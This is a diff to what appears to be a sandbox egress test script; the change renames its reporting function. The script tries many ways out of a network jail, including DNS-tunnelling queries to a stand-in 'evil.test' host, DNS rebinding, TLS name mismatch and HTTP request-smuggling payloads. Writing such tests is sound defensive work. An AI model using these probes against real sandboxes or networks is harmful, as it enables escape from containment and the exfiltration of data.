@@ -1,4 +1,4 @@
-# Every road that a program without rights can take. `told` prints what came of each; one that gets through says GOT.
+# Every road that a program without rights can take. `report` prints what came of each; one that gets through says GOT.
 AT_ONCE = 15
 socket.setdefaulttimeout(10)
 MARK = b'one byte for a canary'
@@ -44,8 +44,8 @@ for address, port in [('198.51.100.7', 22), ('198.51.100.7', 80), ('198.51.100.7
                       ('192.88.99.1', 80), ('fd00:ec2::254', 80), ('fec0::1', 80), ('64:ff9b::c633:6407', 80),
                       ('2002:c633:6407::1', 80), ('::ffff:198.51.100.7', 9), ('198.18.0.1', 22), ('198.18.0.1', 3128),
                       ('fd66:756d:6568::1', 22), ('198.51.100.7', 53), ('198.51.100.7', 853)]:
-    told(f'{address} {port}', lambda: tcp(address, port))
-told('gateway, http', lambda: tcp('198.18.0.1', 80, b'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'))
+    report(f'{address} {port}', lambda: tcp(address, port))
+report('gateway, http', lambda: tcp('198.18.0.1', 80, b'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'))
 
 
 def fast_open():
@@ -56,19 +56,19 @@ def urgent():
     with socket.create_connection(('198.51.100.8', 8080)) as s: return s.send(MARK, socket.MSG_OOB) and got(s.recv(100))
 
 
-told('fast open', fast_open)
-told('urgent', urgent)
+report('fast open', fast_open)
+report('urgent', urgent)
 
 # Names that this guest is told the addresses of, from here on.
-for name in ['web.test', 'second.test', 'seen.test']: told(name, lambda: socket.gethostbyname(name))
-for port in [22, 3128]: told(f'web.test {port}', lambda: tcp('web.test', port))
+for name in ['web.test', 'second.test', 'seen.test']: report(name, lambda: socket.gethostbyname(name))
+for port in [22, 3128]: report(f'web.test {port}', lambda: tcp('web.test', port))
 
 # UDP.
 QUIC = b'\xc3\0\0\0\1\x08' + bytes(1194)
 for address, port, say in [('198.51.100.7', 443, QUIC), ('203.0.113.10', 443, QUIC), ('2001:db8::10', 443, QUIC),
                            ('198.51.100.7', 53, MARK), ('2001:db8:bad::7', 53, MARK), ('198.18.0.1', 4433, MARK)]:
-    told(f'udp {address} {port}', lambda: udp(address, port, say))
-for address, port in [('255.255.255.255', 9), ('224.0.0.251', 5353)]: told(f'{address} {port}', lambda: shout(address, port))
+    report(f'udp {address} {port}', lambda: udp(address, port, say))
+for address, port in [('255.255.255.255', 9), ('224.0.0.251', 5353)]: report(f'{address} {port}', lambda: shout(address, port))
 
 
 # Questions about names.
@@ -100,23 +100,23 @@ def asks_by_tcp(name, kind):
 
 LONG = b'.'.join([b'0123456789abcdef' * 3] * 4) + b'.evil.test'
 for name in [LONG, b'data.evil.test', b'data.web.test', b'data.second.test', b'evil.test']:
-    for kind in [1, 28, 16, 10, 15, 33, 255]: told(f'name {name[-14:]} {kind}', lambda: asks(name, kind))
-    told(f'name {name[-14:]} by tcp', lambda: asks_by_tcp(name, 16))
-told('allowed name, text', lambda: asks(b'web.test', 16))
-told('allowed name, service', lambda: asks(b'web.test', 65))
-told('chaos', lambda: asks(b'version.bind', 16, 0x0100, 1, 3))
-told('two questions', lambda: asks(b'evil.test', 1, 0x0100, 2))
-told('update', lambda: asks(b'evil.test', 6, 0x2800))
-told('notify', lambda: asks(b'evil.test', 6, 0x2000))
-told('odd letters', lambda: asks(b'd\xe4ta\0 with.web.test', 1))
-told('getaddrinfo', lambda: tcp('data-to-tunnel.evil.test', 80, b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'))
+    for kind in [1, 28, 16, 10, 15, 33, 255]: report(f'name {name[-14:]} {kind}', lambda: asks(name, kind))
+    report(f'name {name[-14:]} by tcp', lambda: asks_by_tcp(name, 16))
+report('allowed name, text', lambda: asks(b'web.test', 16))
+report('allowed name, service', lambda: asks(b'web.test', 65))
+report('chaos', lambda: asks(b'version.bind', 16, 0x0100, 1, 3))
+report('two questions', lambda: asks(b'evil.test', 1, 0x0100, 2))
+report('update', lambda: asks(b'evil.test', 6, 0x2800))
+report('notify', lambda: asks(b'evil.test', 6, 0x2000))
+report('odd letters', lambda: asks(b'd\xe4ta\0 with.web.test', 1))
+report('getaddrinfo', lambda: tcp('data-to-tunnel.evil.test', 80, b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'))
 
 # A name that moves: to a public address first, then to others.
 for turn in range(5):
     request = b'GET /turn HTTP/1.1\r\nHost: turning.test\r\nConnection: close\r\n\r\n'
-    told(f'turn {turn}', lambda: turn == 0 and socket.gethostbyname('turning.test') or tcp('turning.test', 80, request))
+    report(f'turn {turn}', lambda: turn == 0 and socket.gethostbyname('turning.test') or tcp('turning.test', 80, request))
 for turn in range(2):
-    told(f'turn, v6, {turn}', lambda: [a[4][0] for a in socket.getaddrinfo('turning.test', 80, socket.AF_INET6)])
+    report(f'turn, v6, {turn}', lambda: [a[4][0] for a in socket.getaddrinfo('turning.test', 80, socket.AF_INET6)])
 
 
 # TLS for one name, at another's address or with another's request in it.
@@ -125,10 +125,10 @@ def hello(address, name):
         with blind().wrap_socket(s, server_hostname=name): return 'GOT a connection'
 
 
-told('other name', lambda: hello('web.test', 'evil.test'))
-told('no name', lambda: hello('web.test', None))
-told('another allowed name', lambda: hello('203.0.113.11', 'web.test'))
-told('another address', lambda: hello('198.51.100.7', 'web.test'))
+report('other name', lambda: hello('web.test', 'evil.test'))
+report('no name', lambda: hello('web.test', None))
+report('another allowed name', lambda: hello('203.0.113.11', 'web.test'))
+report('another address', lambda: hello('198.51.100.7', 'web.test'))
 
 
 def sealed(text):
@@ -193,11 +193,11 @@ for road, host, other in [(plain, b'web.test', b'seen.test'), (sealed, b'seen.te
         ('bare feeds', b'GET / HTTP/1.1\nHost: ' + host + b'\n\nGET /smuggled HTTP/1.1\nHost: evil.test\n\n'),
         ('in a header', b'GET / HTTP/1.1\r\n' + here + b'X-A: b\rHost: evil.test\r\n' + end),
     ]:
-        told(f'{road.__name__} {name}', road(text))
-told('host at another address', plain(b'GET /smuggled HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n', 'second.test'))
-told('words', plain(MARK * 10))
-told('words, tls', plain(MARK * 10, port=443))
-told('http 2', plain(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'))
+        report(f'{road.__name__} {name}', road(text))
+report('host at another address', plain(b'GET /smuggled HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n', 'second.test'))
+report('words', plain(MARK * 10))
+report('words, tls', plain(MARK * 10, port=443))
+report('http 2', plain(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'))
 
 
 def urgent_host():
@@ -208,5 +208,5 @@ def urgent_host():
         return judged(reads_all(s))
 
 
-told('urgent host', urgent_host)
+report('urgent host', urgent_host)
 if __name__ == '__main__' and os.getuid() != 0: print('all tried')
